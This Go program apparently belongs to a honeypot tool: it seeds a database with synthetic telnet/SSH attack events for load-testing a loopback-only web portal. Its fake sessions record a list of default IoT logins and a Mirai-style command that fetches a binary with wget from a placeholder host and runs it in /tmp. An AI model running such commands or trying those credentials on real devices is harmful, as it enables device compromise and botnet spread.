// Command portal seeds a temporary store with synthetic honeypot events
// (1,000,000 by default, batched inserts) and serves the portal on a
// loopback address for wrk (see docs/benchmarks-portal.md). Source
// addresses are inert strings from 198.18.0.0/15 (the benchmarking range);
// nothing ever connects to them.
package main

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/store/sqlite"
	"github.com/kansoku/kansoku/internal/web"
)

func main() {
	n := flag.Int("events", 1_000_000, "events to seed")
	batch := flag.Int("batch", 5000, "events per insert transaction")
	addrs := flag.Int("addrs", 50_000, "distinct source addresses")
	listen := flag.String("listen", "127.0.0.1:8089", "portal address (loopback only)")
	dbPath := flag.String("db", "", "database file (default: a temp dir, removed at exit); an existing one is served as is")
	hosts := flag.Int("hosts", 0, "scanner services to seed (scan.result events) and walk page by page; 0: none")
	flag.Parse()
	if err := run(*n, *batch, *addrs, *hosts, *listen, *dbPath); err != nil {
		fmt.Fprintln(os.Stderr, "bench/portal:", err)
		os.Exit(1)
	}
}

func addrN(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{198, 18 + byte(i>>16&1), byte(i >> 8), byte(i)})
}

var users = []string{"root", "admin", "support", "user", "guest", "ubnt", "default", "telnet"}
var passwords = []string{"xc3511", "vizxv", "admin", "888888", "default", "123456", "12345", "password", "hi3518", "7ujMko0admin"}

func seed(ctx context.Context, db *sqlite.DB, n, batch, addrs int) error {
	r := rand.New(rand.NewPCG(1, 2))
	now := time.Now().UTC()
	start := time.Now()
	buf := make([]*event.Event, 0, batch)
	flush := func() error {
		if len(buf) == 0 {
			return nil
		}
		_, err := db.InsertEvents(ctx, buf)
		buf = buf[:0]
		return err
	}
	mk := func(hp, kind, sess string, src netip.Addr, at time.Time, port uint16) *event.Event {
		e := event.New(hp, kind)
		e.Time, e.Sensor, e.Session = at, "bench-1", sess
		e.SrcIP, e.SrcPort, e.DstIP, e.DstPort = src, uint16(1024+r.IntN(60000)), netip.MustParseAddr("127.0.0.1"), port
		e.Transport = "tcp"
		return e
	}
	countries := []string{"CN", "US", "BR", "IN", "RU", "VN", "TW", "KR", "JP", "ID"}
	for total := 0; total < n; {
		src := addrN(r.IntN(addrs))
		at := now.Add(-time.Duration(r.Int64N(int64(30 * 24 * time.Hour))))
		if r.IntN(50) == 0 { // an amplification attack against src
			a := mk("amp", "amp.attack.start", "", src, at, 0)
			a.Transport = "udp"
			a.Set("protocol", []string{"ntp", "dns", "ssdp", "memcached", "cldap"}[r.IntN(5)]).Set("port", 123).Set("packets", 100+r.IntN(10000)).
				Set("attack_id", event.NewID()).Set("src_country", countries[r.IntN(len(countries))])
			buf = append(buf, a)
			total++
		} else {
			sess := event.NewID()
			hp, port := "telnet", uint16(23)
			if r.IntN(3) == 0 {
				hp, port = "ssh", 22
			}
			c := mk(hp, "session.connect", sess, src, at, port)
			c.Set("src_country", countries[r.IntN(len(countries))]).Set("src_asn", 4134+r.IntN(50))
			l := mk(hp, "login.failed", sess, src, at.Add(time.Second), port)
			l.SetText("username", users[r.IntN(len(users))])
			l.SetText("password", passwords[r.IntN(len(passwords))])
			ok := mk(hp, "login.success", sess, src, at.Add(2*time.Second), port)
			ok.SetText("username", "root")
			ok.SetText("password", passwords[r.IntN(len(passwords))])
			cmd := mk(hp, "command.input", sess, src, at.Add(3*time.Second), port)
			cmd.SetText("input", "cd /tmp; wget http://192.0.2."+fmt.Sprint(r.IntN(250))+"/bins/x.arm7; chmod +x x.arm7; ./x.arm7 telnet")
			cl := mk(hp, "session.closed", sess, src, at.Add(4*time.Second), port)
			cl.Set("duration", 4.0).Set("bytes_in", 200).Set("bytes_out", 900).Set("reason", "client")
			buf = append(buf, c, l, ok, cmd, cl)
			total += 5
			if r.IntN(20) == 0 {
				d := mk(hp, "download.ok", sess, src, at.Add(3500*time.Millisecond), port)
				d.SetText("url", "http://192.0.2."+fmt.Sprint(r.IntN(250))+"/bins/"+[]string{"x.arm7", "x.mips", "x.x86"}[r.IntN(3)])
				buf = append(buf, d)
				total++
			}
		}
		if len(buf) >= batch {
			if err := flush(); err != nil {
				return err
			}
		}
		if total%100_000 < 6 {
			slog.Info("seeding", "events", total, "elapsed", time.Since(start).Round(time.Second))
		}
	}
	if err := flush(); err != nil {
		return err
	}
	slog.Info("seeded", "events", n, "elapsed", time.Since(start).Round(time.Second))
	return nil
}

func run(n, batch, addrs, hosts int, listen, dbPath string) error {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	host, _, err := net.SplitHostPort(listen)
	if ip, perr := netip.ParseAddr(host); err != nil || perr != nil || !ip.IsLoopback() {
		return fmt.Errorf("listen must be a loopback address, got %q", listen)
	}
	fresh := false
	if dbPath == "" {
		dir, err := os.MkdirTemp("", "kansoku-bench-portal-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		dbPath = filepath.Join(dir, "k.db")
	}
	if _, err := os.Stat(dbPath); os.IsNotExist(err) {
		fresh = true
	}
	db, err := sqlite.Open(ctx, dbPath)
	if err != nil {
		return err
	}
	defer db.Close()
	if fresh {
		if err := seed(ctx, db, n, batch, addrs); err != nil {
			return err
		}
	}
	if hosts > 0 || !fresh {
		if err := hostsBench(ctx, db, hosts, batch, fresh); err != nil {
			return err
		}
	}
	srv, err := web.New(web.Options{Store: db, CheckPerMinute: -1,
		TrustedProxies: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}})
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", listen)
	if err != nil {
		return err
	}
	fmt.Printf("portal on http://%s (db %s); source addresses %s … %s; Ctrl-C stops\n", ln.Addr(), dbPath, addrN(0), addrN(addrs-1))
	fmt.Println(strings.Repeat("-", 40))
	return srv.Run(ctx, ln)
}
